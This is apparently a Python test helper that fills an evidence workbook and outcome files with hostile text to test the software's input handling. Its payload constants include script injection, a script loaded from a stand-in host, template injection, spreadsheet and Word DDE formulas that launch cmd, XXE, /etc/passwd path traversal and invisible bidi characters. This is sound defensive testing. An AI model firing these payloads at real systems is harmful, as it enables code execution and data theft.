"""A partnership all of whose words are an attack: what stands in each column of the evidence form, and in each text of
an outcome of its own. Columns are found from the form itself, so that a new one is attacked too.
"""

import csv
import importlib.util
import itertools
import re
import unicodedata
from pathlib import Path

import yaml

from cjtools.catalogue.evidence_form import OF_WORKBOOK
from cjtools.evidence.choices import of_catalogue, plain
from cjtools.evidence.template import Writer
from cjtools.signs import unseen_in
from cjtools.strict_files import read_yaml

ROOT = Path(__file__).resolve().parents[1]
EXAMPLES = ROOT / "docs" / "examples"
ELSEWHERE = "https://planted.example"  # nothing may be asked for there, and no link may lead there
RUN = "window.PWN=1"
# what a text may hold; each runs, fetches, covers, leaves or breaks something where it is taken for more than text
FAMILIES = {
    "a script": f"<script>{RUN}</script><SCRIPT src={ELSEWHERE}/x.js></SCRIPT>",
    "ends of what it stands in": f"</p></td></title></style></textarea></svg>--><script>{RUN}</script>",
    "a picture that fails": f"<img src=x onerror={RUN}>",
    "a drawing that runs": f"<svg onload={RUN}><script>{RUN}</script><foreignObject><body onload={RUN}></svg>",
    "ends of an attribute": f"\" onfocus={RUN} autofocus x=\" ' onmouseover='{RUN}' x='",
    "links that run": f"<a href=javascript:{RUN}>a</a> <a href='data:text/html,<script>{RUN}</script>'>b</a>",
    "links in Markdown": f"[a](javascript:{RUN}) ![b]({ELSEWHERE}/b.png) <{ELSEWHERE}> **c** `d` # e",
    "an address in brackets": f"({ELSEWHERE}/\"onmouseover={RUN}//)",
    "style sheets": f"<style>@import url({ELSEWHERE}/x.css); body{{display:none}}</style>",
    "a cover over the page": f"<div style='position:fixed;inset:0;background:url({ELSEWHERE}/x)'>",
    "frames": f"<iframe srcdoc='<script>parent.PWN=1</script>'></iframe><object data={ELSEWHERE}></object>",
    "forms": f"<form action={ELSEWHERE}><input name=q autofocus><button>Go</button></form>",
    "another page": f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'><base href={ELSEWHERE}/><link href=x>",
    "templates": "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{# #}{{ cycler.__init__.__globals__ }}",
    "code": "\"\"\" ''' f'{7*7}' ${7*7} %s %(x)d {0} {x} \\n \\ __import__('os')._exit(3) #",
    "XML": "]]> <!-- --> <![CDATA[ <?xml?> <!DOCTYPE x [<!ENTITY y SYSTEM 'file:///x'>]> &y; &lt;b&gt; &#60;i&#62;",
    "fields of Word": f"{{ HYPERLINK \"{ELSEWHERE}\" }} {{ DDEAUTO cmd \"/k calc\" }} <w:fldSimple w:instr='DDE'/>",
    "formulas of TeX": "$\\frac{1}{0}$ $$x^2$$ \\input{/etc/passwd} \\write18{x} $",
    "paths": "../../../../etc/passwd ..\\..\\x CON \\\\planted\\share C:\\x file:///etc/passwd",
    "lines of an e-mail": "Dear all\nBcc: everybody\nContent-Type: text/html",
}  # fmt: skip
# what a spreadsheet program works out when a cell begins with it
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", f'=HYPERLINK("{ELSEWHERE}","a")', "=cmd|'/c calc'!A0", "＝1+1", "＋1+1", "－1+1",
    "＠SUM(1)", "'=1+1", '"=1+1"', "=DDE(1)", "{=1+1}",
)  # fmt: skip
# before it, and all through it: what no eye can see, and what turns the text around it the other way round
UNSEEN = (
    "\u202e", "\u202d\u202b", "\u2066\u2067\u2068", "\u200f\u061c", "\u200b\ufeff\u2060", "\u00ad\u034f\u180e",
    "\U000e0041\U000e0062", "\x00\x07\x1b[31m", "\x1b]0;x\x07\x7f\x9b", "\u2028\u2029", "\ufff9\ufffb", "\t", "\r", " ",
    "\u00a0",
)  # fmt: skip
_CALM = str.maketrans("<>&\"'{}=+@$[]`\\|＝＋－＠#%!-", "‹›∧”’()≈±©S()´/¦≈±–©♯٪¡–")


_ENDS = re.compile("\r\n?|[\u2028\u2029\x85]")


def _kept(text):
    """Return a text without what no eye can see, by what Unicode says of each sign; ends of lines are one sign."""
    text = _ENDS.sub("\n", text)
    return "".join(sign for sign in text if sign in "\n\t" or unicodedata.category(sign) not in _NO_EYE).replace(
        "\u034f", ""
    )


_NO_EYE = ("Cc", "Cf", "Cs")


def seen(text):
    """Return a text as a reader sees it: without what no eye can see, and white space as one space."""
    return " ".join(_kept(text).split())


def calm(text):
    """Return a text of the same length in which nothing is an attack any more."""
    return _kept(text).translate(_CALM)


class Texts:
    """Hostile texts, each with a tag of its own, so that what gets through can be told where it came from.

    Parameters
    ----------
    change : function
        What is done to each text: nothing, or ``calm``.
    """

    def __init__(self, change=lambda text: text):
        self._change, self._count = change, itertools.count()
        self.tags = {}  # tag -> (field, text as a reader sees it)
        self._known = {}

    def of(self, field, text, one_word=False):
        """Return the hostile text of a field that stands in the place of a text; the same for the same text.

        Parameters
        ----------
        field, text : str
        one_word : bool
            It is one of several with ";" between, so that it holds none.
        """
        known = field, plain(text)
        if known not in self._known:
            number = next(self._count)
            is_first = field not in {each for each, _ in self.tags.values()}
            # the first text of each field holds every family, later ones one of them each
            held = list(FAMILIES.values()) if is_first else [list(FAMILIES.values())[number % len(FAMILIES)]]
            tag = f"q{number:04d}z"
            before, after = UNSEEN[number % len(UNSEEN)], UNSEEN[(number // 7 + 3) % len(UNSEEN)]
            formula = FORMULAS[number % len(FORMULAS)]
            made = f"{before}{formula} {tag} {after}{' '.join(held)} {after}{before}{tag}end"
            made = self._change(made.replace(";", ",") if one_word else made)
            self.tags[tag] = field, seen(made)
            self._known[known] = made
        return self._known[known]


def _example_script():
    """Return the script of the worked example, as a module."""
    found = importlib.util.spec_from_file_location(
        "make_example_evidence", ROOT / "scripts" / "make_example_evidence.py"
    )
    script = importlib.util.module_from_spec(found)
    found.loader.exec_module(script)
    return script


def is_free(column):
    """Return whether people write words of their own into a column of the form."""
    return column.kind == "text" or column.open


def example_rows(form):
    """Return rows that fill every sheet of the form: those of the worked example, and the form's own examples."""
    rows = _example_script().rows(form)
    for sheet in form.sheets:
        if not rows[sheet.id]:
            rows[sheet.id] = [{column.id: column.example for column in sheet.columns if column.example != ""}]
    return rows


def hostile_rows(words, texts):
    """Return the rows of an evidence workbook whose every free text is hostile, ids and what names them too.

    What a list of the catalogue knows stays, but for one row of each column that takes other words as well.

    Parameters
    ----------
    words : Catalogue
    texts : Texts
    """
    form, lists, rows = words.evidence_form, of_catalogue(words), example_rows(words.evidence_form)
    titles = {plain(item.title) for item in words.framework2016.indicators.values()}
    of_workbook = {(sheet, column): name for name, (sheet, column) in OF_WORKBOOK.items()} | {ACTIVITY: "activities"}
    named = {}  # list -> what stood there -> what stands there now
    for sheet in form.sheets:
        for column in filter(is_free, sheet.columns):
            place = SAME_AS.get((sheet.id, column.id), (sheet.id, column.id))
            for row in _attacked(rows[sheet.id], column, lists.get(column.of), titles):
                said = str(row.get(column.id, f"empty before, {column.id}"))
                row[column.id] = texts.of(".".join(place), said, place in of_workbook or column.kind == "several")
                if place in of_workbook:
                    named.setdefault(of_workbook[place], {})[plain(said)] = row[column.id]
    named["metrics"] = named["measures of aims"]
    for sheet in form.sheets:
        for column in (column for column in sheet.columns if column.of in named):
            for row in rows[sheet.id]:
                said = str(row.get(column.id, ""))
                row |= {column.id: "; ".join(_named(one, named[column.of]) for one in said.split(";"))} if said else {}
    return rows


# what a row is known by: the name of a measure stands in both sheets
SAME_AS = {("local_measures", "measure"): ("measures", "name"), ("five_steps", "service"): ("services", "name")}
ACTIVITY = "logic_model", "id"


def _named(one, new):
    """Return what an entry that names another row is called now."""
    return new.get(plain(one), one.strip())


def _attacked(rows, column, choices, titles):
    """Return the rows in which a column is filled in with words of one's own; one at least."""
    filled = [row for row in rows if row.get(column.id, "") != ""]
    if not filled:
        return [next(row for row in rows if all(row.get(name) in wanted for name, wanted in column.only_if.items()))]
    known = [
        row
        for row in filled
        if plain(str(row[column.id])) in titles or (choices and _is_known(choices, row[column.id]))
    ]
    return [row for row in filled if row not in known] or known[-1:]


def _is_known(choices, said):
    """Return whether an entry, or each of several, is on a list."""
    return all(choices.find(one) for one in str(said).split(";"))


def write_evidence(words, area, texts, folder):
    """Write the hostile workbook of an area into its folder."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "evidence.xlsx").write_bytes(Writer(words, area).write(hostile_rows(words, texts)))


# keys of YAML files and columns of CSV files by which things are found, and what is of a closed list
_FOUND_BY = {
    "id", "kind", "provenance", "title_provenance", "statistic", "measure", "indicator", "show", "theme", "outcomes",
    "items", "better", "baseline_period", "status", "next_review", "area_code", "area_name", "period", "period_type",
    "breakdown", "category", "value", "marker", "edition", "councils_add_up", "parts_add_up", "published_on", "url",
    "activity", "source", "restorative-justice.number", "questions.*.partner",
}  # fmt: skip
_WORDS = ("questions.*.source",)


def hostile_words(node, texts, field=""):
    """Return what a YAML or CSV file holds with every text hostile, but for what things are found by."""
    if isinstance(node, dict):
        return {name: _hostile_word(held, texts, f"{field}.{name}", name) for name, held in node.items()}
    if isinstance(node, list):
        return [hostile_words(one, texts, field) for one in node]
    return texts.of(field, node) if isinstance(node, str) and node else node


def _hostile_word(held, texts, field, name):
    """Return what stands under a key."""
    field = re.sub(r"(questions)\.(people|needs|services)", r"\1.*", field)
    is_found_by = name in _FOUND_BY or any(field.endswith(one) for one in _FOUND_BY if "." in one)
    return held if is_found_by and not field.endswith(_WORDS) else hostile_words(held, texts, field)


def write_outcome(texts, folder):
    """Write the worked example of an outcome of a partnership's own into its folder, its words hostile.

    With an indicator that the example lacks: shares of categories, whose names are hostile too.
    """
    for path in sorted((EXAMPLES / "local-outcome").rglob("*")):
        to = folder / path.relative_to(EXAMPLES / "local-outcome")
        if path.suffix == ".yaml":
            to.parent.mkdir(parents=True, exist_ok=True)
            made = hostile_words(read_yaml(path), texts, path.stem)
            if path.parent.name == "outcomes":
                made["questions"]["people"][0]["answered_by"] += [
                    {"indicator": "local_rj_kinds", "show": how} for how in ("composition", "profile", "table")
                ]
            to.write_text(yaml.safe_dump(made, allow_unicode=True, sort_keys=False, width=10_000), encoding="utf-8")
        elif path.suffix == ".csv":
            with path.open(encoding="utf-8", newline="") as stream:
                rows = [hostile_words(row, texts, path.stem) for row in csv.DictReader(stream)]
            with to.open("w", encoding="utf-8", newline="") as stream:
                table = csv.DictWriter(stream, list(rows[0]))
                table.writeheader()
                table.writerows(rows)
    _write_shares(texts, folder)


def seen_only(text):
    """Return a text without what no eye can see: files that people edit refuse it."""
    return "".join(sign for sign in text if not unseen_in(sign) and sign not in "\u2028\u2029").replace("\r", "\n")


def _write_shares(texts, folder):
    """Add an indicator with the categories of a breakdown, and its figures, to an outcome of a partnership's own."""
    kinds, breakdown = [texts.of("figures.category", f"kind {number}") for number in (1, 2, 3)], "kind"
    (folder / "indicators").mkdir(exist_ok=True)
    like = read_yaml(EXAMPLES / "local-outcome" / "indicators" / "local_rj_completion.yaml")
    shares = hostile_words(like, texts, "shares") | {
        "id": "local_rj_kinds", "statistic": "share", "breakdown": breakdown, "parts": kinds,
        "numerator": [{"measure": "local_rj_offered", "breakdown": breakdown}],
        "denominator": [{"measure": "local_rj_offered"}],
        "chart_groups": {texts.of("chart_groups", "two"): kinds[:2]},
        "breaks": {"2022-23": texts.of("breaks", "a break")},
    }  # fmt: skip
    path = folder / "indicators" / "local_rj_kinds.yaml"
    path.write_text(yaml.safe_dump(shares, allow_unicode=True, sort_keys=False, width=10_000), encoding="utf-8")
    with (folder / "figures.csv").open(encoding="utf-8", newline="") as stream:
        rows = list(csv.DictReader(stream))
    offered = [row for row in rows if row["measure"] == "local_rj_offered"]
    for row in offered:
        for kind, count in zip(kinds, (5, 6, int(row["value"]) - 11), strict=True):
            rows.append(row | {"breakdown": breakdown, "category": kind, "value": count})
    with (folder / "figures.csv").open("w", encoding="utf-8", newline="") as stream:
        table = csv.DictWriter(stream, list(rows[0]))
        table.writeheader()
        table.writerows(rows)
